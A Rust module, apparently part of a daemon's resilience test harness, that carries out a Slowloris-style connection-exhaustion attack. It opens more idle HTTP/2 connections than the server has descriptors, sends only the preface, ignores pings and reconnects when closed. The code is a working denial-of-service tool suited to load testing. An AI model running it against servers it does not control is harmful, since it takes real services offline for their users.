//! Attacks by idle connections, in the manner of Slowloris: more of them than the daemon has descriptors.
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::task::JoinSet;

use super::attacker::{Attacker, DESCRIPTORS, until_ended};

/// The connection preface of HTTP/2, and an empty SETTINGS frame (RFC 9113, section 3.4): after that the server waits for requests.
pub(super) const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";

/// Times that a closed connection is made again.
const TRIES: u32 = 100;

/// Pause before that, and the most time for connecting.
const PAUSE: Duration = Duration::from_secs(1);

/// Holds half as many connections again as the daemon has descriptors. Each says `first` and then nothing, not even an answer
/// to a ping; one that the daemon closes is made again.
pub(super) async fn hold(attacker: &Attacker, first: &'static [u8]) -> anyhow::Result<()> {
    let mut connections = JoinSet::new();
    for _ in 0..attacker.scaled(DESCRIPTORS * 3 / 2) {
        let (host, tally) = (attacker.host()?.to_owned(), attacker.tally.clone());
        connections.spawn(async move {
            for _ in 0..TRIES {
                let ended = match tokio::time::timeout(PAUSE, TcpStream::connect(&host)).await {
                    Ok(Ok(connection)) => match until_closed(connection, first).await {
                        Ok(()) => "closed",
                        Err(_) => "reset",
                    },
                    Ok(Err(_)) | Err(_) => "no_connection",
                };
                tally.add(ended);
                tokio::time::sleep(PAUSE).await;
            }
        });
    }
    until_ended(connections).await;
    Ok(())
}

async fn until_closed(mut connection: TcpStream, first: &[u8]) -> std::io::Result<()> {
    connection.write_all(first).await?;
    // The daemon's settings and pings are read and not answered.
    let mut said = [0; 256];
    while connection.read(&mut said).await? > 0 {}
    Ok(())
}
